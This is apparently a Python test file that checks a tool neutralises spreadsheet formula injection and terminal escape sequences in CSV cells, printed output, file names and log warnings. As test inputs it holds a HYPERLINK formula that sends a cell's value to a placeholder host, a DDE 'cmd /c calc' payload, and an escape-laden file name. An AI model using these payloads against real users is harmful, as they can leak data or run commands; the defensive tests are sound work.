"""What a note says is no formula to a spreadsheet and no command to a terminal, and nothing of it is lost."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from acquisition.commands.files import verify_command
from acquisition.text import as_cell, from_cell, printable

ROOT = Path(__file__).resolve().parents[2]
COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What a terminal may take for a command, or for another direction of reading."""
ANY = st.text(st.characters(exclude_categories=()))
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1", '=HYPERLINK("http://x?"&A1)', " =1", "-", "'=1"]
SPACED = ["\t=1", "\r=1", "\n=1"]


def cell(text: str) -> str:
    made = as_cell(text)
    assert isinstance(made, str)
    return made


@given(text=ANY)
@example(text="\\u0041'=")
@example(text="'\\")
@example(text="𝒳\U000e0001")
def test_every_text_comes_back(text: str) -> None:
    pairs = re.search("[\ud800-\udbff][\udc00-\udfff]", text)  # no text; read as the one character it means
    assert from_cell(cell(text)) == text or pairs


@given(text=st.one_of(ANY, st.sampled_from(FORMULAS + SPACED).flatmap(lambda f: ANY.map(lambda t: f + t))))
def test_no_cell_is_a_formula_however_a_spreadsheet_parts_cells(text: str) -> None:
    made = cell(text)
    assert not COMMANDS.search(made)
    assert "\n" not in made and "\t" not in made
    if re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", text):
        assert made == text
        return
    row = io.StringIO()
    csv.writer(row).writerow(["12.5", made, "x"])
    for parts in (next(csv.reader([row.getvalue()])), re.split("[;\t]", row.getvalue())):
        for part in parts[1:] if len(parts) > 1 else []:
            assert part.strip("\"' \xa0\r\n")[:1] not in tuple("=+@＝＋－＠") or part.startswith(("'", "\"'"))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_an_apostrophe(text: str) -> None:
    assert cell(text).startswith("'")
    assert from_cell(cell(text)) == text


@pytest.mark.parametrize("text", SPACED)
def test_a_control_character_before_a_formula_is_written_out(text: str) -> None:
    assert cell(text).startswith("\\u00")


@pytest.mark.parametrize("value", [1.5, -2, None, True, "-3.5", "+1e-3", "now_moment", "a, b", "é", ""])
def test_numbers_and_plain_texts_stay(value: object) -> None:
    assert as_cell(value) == value


def test_a_formula_for_another_cell_is_parted_from_it() -> None:
    assert cell('quiet;=cmd|"/c calc"!A1') == r'quiet\u003b=cmd|"/c calc"!A1'


@given(text=ANY)
def test_nothing_printed_commands_the_terminal(text: str) -> None:
    assert not COMMANDS.search(printable(text))


@given(value=st.dictionaries(ANY, ANY, max_size=3))
def test_json_that_is_printed_is_still_json(value: dict[str, str]) -> None:
    line = json.dumps(value, ensure_ascii=False)
    said = json.loads(printable(line).encode("utf-8", "surrogatepass"))
    whole = {k.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass") for k in value}
    assert set(said) == whole


def test_the_name_of_a_file_cannot_command_the_terminal(tmp_path: Path) -> None:
    from tests.acquisition.simulated import record

    record(tmp_path / "a", n_ticks=40)
    (tmp_path / "a" / "note\x1b]0;owned\x07\x9b31m").write_text("x")
    done = CliRunner().invoke(verify_command, [str(tmp_path / "a")])
    assert done.exit_code == 1
    assert r"note\u001b]0;owned\u0007\u009b31m: added" in done.output
    assert not COMMANDS.search(done.output)


def test_a_warning_of_the_log_cannot_command_the_terminal() -> None:
    code = "import logging, sys; from acquisition.terminal import guard_warnings\n"
    code += "if sys.argv[1:]: guard_warnings()\nlogging.getLogger('x').warning('%s', 'a\\x1b[31m')"
    said = [
        subprocess.run(
            [sys.executable, "-c", code, *words], cwd=ROOT, capture_output=True, text=True, check=True
        )
        for words in ([], ["on"])
    ]
    assert [done.stderr for done in said] == ["a\x1b[31m\n", "a\\u001b[31m\n"]


def test_all_that_is_printed_goes_through_one_place() -> None:
    words = ["git", "grep", "-l", "click.echo(", "--", "acquisition", "processing", "viewer"]
    found = subprocess.run(words, cwd=ROOT, capture_output=True, text=True, check=False).stdout.split()
    assert found == ["acquisition/terminal.py"]
